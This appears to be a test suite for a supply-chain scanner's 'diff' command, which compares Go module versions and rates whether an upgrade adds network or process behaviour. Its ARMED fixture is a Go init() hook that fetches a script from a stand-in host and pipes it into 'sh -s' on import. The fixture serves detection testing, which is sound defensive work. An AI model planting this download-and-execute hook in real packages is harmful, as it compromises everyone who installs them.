// diff end to end: what an upgrade adds is told with its place, what was there before is not.
import assert from 'node:assert/strict'
import test from 'node:test'
import { FORMATS } from '../../src/report/formats.ts'
import type { DiffReport } from '../../src/report/diff.ts'
import { schemaTroubles } from '../support/jsonschemas.ts'
import { publish, type Ran, type RunOptions, type Universe, withUniverse } from '../support/universe.ts'
import { VALID } from '../support/validformats.ts'

const CACHE = `package cache

// Evict drops everything.
func Evict() int { return 0 }
`
const ARMED = `package cache

import (
	"net/http"
	"os/exec"
)

func init() {
	r, err := http.Get("https://sync.cache.invalid/1")
	if err != nil {
		return
	}
	c := exec.Command("sh", "-s")
	c.Stdin = r.Body
	c.Run()
}

// Evict drops everything.
func Evict() int { return 0 }
`
const ASKING = `package fetch

import "net/http"

// Get asks a server that the caller names.
func Get(url string) (*http.Response, error) { return http.Get(url) }
`
const old = publish('rsc.io/cache', 'v1.0.0', { 'cache.go': CACHE })
const armed = publish('rsc.io/cache', 'v1.0.1', { 'cache.go': ARMED })
const calm = publish('rsc.io/cache', 'v1.1.0', {
  'go.mod': 'module rsc.io/cache\n\ngo 1.22\n\nrequire rsc.io/quote v1.5.2\n',
  'cache.go': CACHE.replace('return 0', 'return 1'),
  'README.md': 'A cache.\n',
})
const asking = publish('rsc.io/cache', 'v1.2.0', { 'cache.go': CACHE, 'fetch/fetch.go': ASKING })

async function diff(
  u: Universe,
  args: readonly string[],
  options: RunOptions = {},
): Promise<Ran & { readonly report: DiffReport }> {
  const ran = await u.run(['diff', ...args, '--json'], options)
  const report = JSON.parse(ran.stdout) as DiffReport
  assert.deepEqual(schemaTroubles('error' in report ? 'error-1.json' : 'diff-1.json', report), [])
  assert.equal(report.exitCode, ran.code)
  return { ...ran, report }
}

test('an update that arms a module is critical: MW-DELTA, its calls, its values and the changed lines', async () => {
  await withUniverse(async (u) => {
    u.serve([old, armed])
    const { code, report } = await diff(u, ['rsc.io/cache@v1.0.0', 'v1.0.1'])
    assert.equal(code, 1)
    assert.deepEqual([report.step, report.risk], ['patch', 'critical'])
    assert.deepEqual([report.from.verdict, report.to.verdict], ['clean', 'malicious'])
    assert.deepEqual([report.from.integrity, report.to.integrity], ['proven', 'proven'])
    const delta = report.findings.find((f) => f.rule === 'MW-DELTA')
    assert.deepEqual([delta?.severity, delta?.file, delta?.trigger], ['critical', 'cache.go', 'init'])
    assert.equal(delta?.message, 'importing it now starts programs and connects, which v1.0.0 did not')
    assert.deepEqual(
      report.effects.map((e) => [e.kind, e.line, e.values, e.triggers]),
      [
        ['process', 13, ['sh', '-s'], ['init']],
        ['connect', 9, ['https://sync.cache.invalid/1'], ['init']],
      ],
    )
    assert.deepEqual(
      report.capabilities.added.map((c) => c.capability),
      ['EXEC', 'NETWORK'],
    )
    assert.deepEqual(
      report.files.map((f) => [f.name, f.kind]),
      [['cache.go', 'changed']],
    )
    assert.ok(report.files[0]?.diff?.includes('9 + \tr, err := http.Get("https://sync.cache.invalid/1")'))
    const text = await u.run(['diff', 'rsc.io/cache@v1.0.0', 'v1.0.1', '--source'])
    assert.match(text.stdout, /^rsc\.io\/cache v1\.0\.0 -> v1\.0\.1 {3}a patch release\n/)
    assert.match(
      text.stdout,
      /\nRISK critical: Importing it now starts programs and connects, which v1\.0\.0 did not\.\n/,
    )
    assert.match(text.stdout, /\n {2}15 \+ .*c\.Run\(\)\n/)
  })
})

test('a quiet upgrade is quiet: exit 0, its requirement and files are told', async () => {
  await withUniverse(async (u) => {
    u.serve([old, calm])
    const { code, report } = await diff(u, ['rsc.io/cache@v1.0.0', 'rsc.io/cache@v1.1.0'])
    assert.equal(code, 0)
    assert.deepEqual([report.step, report.risk, report.findings], ['minor', 'none', []])
    assert.equal(report.because, 'nothing was added that reaches outside')
    assert.deepEqual(report.requirements, [
      { path: 'go', before: '1.21', after: '1.22', indirect: false },
      { path: 'rsc.io/quote', after: 'v1.5.2', indirect: false },
    ])
    assert.deepEqual(
      report.files.map((f) => [f.name, f.kind]),
      [
        ['cache.go', 'changed'],
        ['go.mod', 'changed'],
        ['README.md', 'added'],
      ],
    )
    assert.equal((await u.run(['diff', 'rsc.io/cache@v1.0.0', 'v1.1.0', '-q'])).stdout, '')
  })
})

test('a connection that a caller asks for is medium where there was none; the project’s own code says whether it counts', async () => {
  await withUniverse(async (u) => {
    u.serve([old, asking])
    u.cache([old])
    u.require([old])
    u.write('main.go', 'package main\n\nimport "rsc.io/cache"\n\nfunc main() { cache.Evict() }\n')
    const { code, report } = await diff(u, ['rsc.io/cache@v1.0.0', 'v1.2.0'])
    assert.equal(code, 0)
    assert.equal(report.risk, 'medium')
    assert.deepEqual(report.reached, [''])
    assert.equal(report.findings[0]?.message, 'it can now use the network, and v1.0.0 could not')
    assert.deepEqual([report.findings[0]?.rule, report.findings[0]?.file], ['MW-DELTA', 'fetch/fetch.go'])
    const elsewhere = await diff(u, ['rsc.io/cache@v1.0.0', 'v1.2.0'], { cwd: u.root })
    assert.equal(elsewhere.report.reached, undefined)
  })
})

test('what the project’s code comes to is told first', async () => {
  await withUniverse(async (u) => {
    const before = publish('rsc.io/tool', 'v1.0.0', { 'a/a.go': 'package a\n\nfunc A() {}\n' })
    const after = publish('rsc.io/tool', 'v1.1.0', {
      'a/a.go': 'package a\n\nimport "net"\n\nfunc A() { net.Dial("tcp", "198.51.100.7:1") }\n',
      'b/b.go': 'package b\n\nimport "os/exec"\n\nfunc B() { exec.Command("git", "gc").Run() }\n',
    })
    u.serve([before, after])
    u.cache([before])
    u.require([before])
    u.write('main.go', 'package main\n\nimport "rsc.io/tool/a"\n\nfunc main() { a.A() }\n')
    const { report } = await diff(u, ['rsc.io/tool@v1.0.0', 'v1.1.0'])
    assert.deepEqual(report.reached, ['a'])
    assert.deepEqual(
      report.effects.map((e) => [e.call, e.file, e.reached]),
      [
        ['net.Dial', 'a/a.go', true],
        ['os/exec.Command', 'b/b.go', false],
      ],
    )
  })
})

test('two modules are compared as an imitator and what it imitates', async () => {
  await withUniverse(async (u) => {
    const clone = publish('rsc.io/cachee', 'v1.0.0', {
      'go.mod': old.files.get('go.mod')?.replace('rsc.io/cache', 'rsc.io/cachee') ?? '',
      'cachee.go': ARMED,
    })
    u.serve([old, clone])
    const { report } = await diff(u, ['rsc.io/cache@v1.0.0', 'rsc.io/cachee@v1.0.0'])
    assert.equal(report.step, 'other')
    assert.match(report.findings[0]?.message ?? '', /which rsc\.io\/cache@v1\.0\.0 did not$/)
    const { stdout } = await u.run(['diff', 'rsc.io/cache@v1.0.0', 'rsc.io/cachee@v1.0.0'])
    assert.match(stdout, /^rsc\.io\/cache@v1\.0\.0 -> rsc\.io\/cachee@v1\.0\.0 {3}two modules\n/)
  })
})

test('what cannot be had or is not what was agreed on is never a pass', async () => {
  await withUniverse(async (u) => {
    u.serve([old, calm])
    const missing = await diff(u, ['rsc.io/cache@v1.0.0', 'v1.9.9'])
    assert.equal(missing.code, 1)
    assert.match(missing.report.to.reasons.join(' '), /its contents are not here/)
    u.cache([calm])
    u.served.delete('rsc.io/cache@v1.1.0')
    const { report, code } = await diff(u, ['rsc.io/cache@v1.0.0', 'v1.1.0'])
    assert.deepEqual([code, report.to.integrity], [0, 'proven'])
  })
})

test('diff in every format, and wrong command lines', async () => {
  await withUniverse(async (u) => {
    u.serve([old, armed])
    for (const format of FORMATS) {
      if (format === 'text') continue
      const { code, stdout } = await u.run(['diff', 'rsc.io/cache@v1.0.0', 'v1.0.1', '-f', format])
      assert.equal(code, 1, format)
      VALID[format](stdout, 1)
    }
    const same = await u.run(['diff', 'rsc.io/cache@v1.0.0', 'v1.0.0'])
    assert.deepEqual([same.code, same.stdout], [2, ''])
    assert.match(same.stderr, /the same twice/)
    assert.equal((await u.run(['diff', 'rsc.io/cache', 'v1.0.0'])).code, 2)
    assert.equal((await u.run(['diff', 'rsc.io/cache@v1.0.0'])).code, 2)
  })
})

test('diff of other modules tells nobody of what the project keeps private', async () => {
  await withUniverse(async (u) => {
    const secret = publish('github.com/acme/secret', 'v1.2.3')
    u.serve([old, calm, secret])
    u.require([old, secret])
    u.write('.modwarden.yaml', 'private:\n  - github.com/acme\n')
    assert.equal((await diff(u, ['rsc.io/cache@v1.0.0', 'v1.1.0'])).code, 0)
    await diff(u, ['github.com/acme/secret@v1.2.3', 'v1.2.4'])
    assert.deepEqual(
      u.requests.filter((url) => url.includes('/lookup/') && url.includes('acme')),
      [],
    )
  })
})

test('a folder of a checkout does not stand in for a module version that is named', async () => {
  await withUniverse(async (u) => {
    u.serve([old, armed])
    for (const folder of ['v1.0.1', 'rsc.io/cache@v1.0.1']) {
      u.write(`${folder}/go.mod`, 'module rsc.io/cache\n\ngo 1.21\n')
      u.write(`${folder}/cache.go`, CACHE)
    }
    assert.equal((await diff(u, ['rsc.io/cache@v1.0.0', 'v1.0.1'])).report.risk, 'critical')
    assert.equal((await diff(u, ['rsc.io/cache@v1.0.0', 'rsc.io/cache@v1.0.1'])).report.risk, 'critical')
    assert.equal((await diff(u, ['rsc.io/cache@v1.0.0', './v1.0.1'])).report.risk, 'none')
  })
})

test('in a workspace every module’s code counts, and packages inside a zip are followed', async () => {
  await withUniverse(async (u) => {
    const after = publish('rsc.io/tool', 'v1.1.0', {
      'tool.go': 'package tool\n\nimport "rsc.io/tool/internal/run"\n\nfunc Do() { run.Run() }\n',
      'internal/run/run.go': 'package run\n\nimport "os/exec"\n\nfunc Run() { exec.Command("git", "gc").Run() }\n',
    })
    const before = publish('rsc.io/tool', 'v1.0.0')
    u.serve([before, after])
    u.cache([before])
    u.require([before])
    u.write('go.work', 'go 1.21\n\nuse (\n\t./a\n\t.\n)\n')
    u.write('a/go.mod', 'module github.com/me/a\n\ngo 1.21\n')
    u.write('a/a.go', 'package a\n')
    u.write('main.go', 'package main\n\nimport "rsc.io/tool"\n\nfunc main() { tool.Do() }\n')
    const { report } = await diff(u, ['rsc.io/tool@v1.0.0', 'v1.1.0'])
    assert.deepEqual(report.reached, ['', 'internal/run'])
    assert.deepEqual(
      report.effects.map((e) => [e.call, e.reached]),
      [['os/exec.Command', true]],
    )
  })
})

test('what was bad before is no “ok”, and a second copy of it is new', async () => {
  await withUniverse(async (u) => {
    const hook = ARMED.replaceAll('cache', 'twice')
    const once = publish('rsc.io/twice', 'v1.0.0', { 'twice.go': hook })
    const again = publish('rsc.io/twice', 'v1.0.1', {
      'twice.go': hook,
      'other.go': hook.replace(/\/\/ Evict[^]*/, ''),
    })
    const same = publish('rsc.io/twice', 'v1.0.2', { 'twice.go': hook, 'README.md': 'twice\n' })
    u.serve([once, again, same])
    const added = await diff(u, ['rsc.io/twice@v1.0.0', 'v1.0.1'])
    assert.deepEqual([added.code, added.report.risk], [1, 'critical'])
    assert.ok(added.report.findings.every((f) => f.file === 'other.go'))
    const kept = await u.run(['diff', 'rsc.io/twice@v1.0.0', 'v1.0.2'])
    assert.equal(kept.code, 1)
    assert.match(
      kept.stdout,
      /\nNOTE: nothing was added that reaches outside, but rsc\.io\/twice@v1\.0\.2 itself is malicious:/,
    )
  })
})
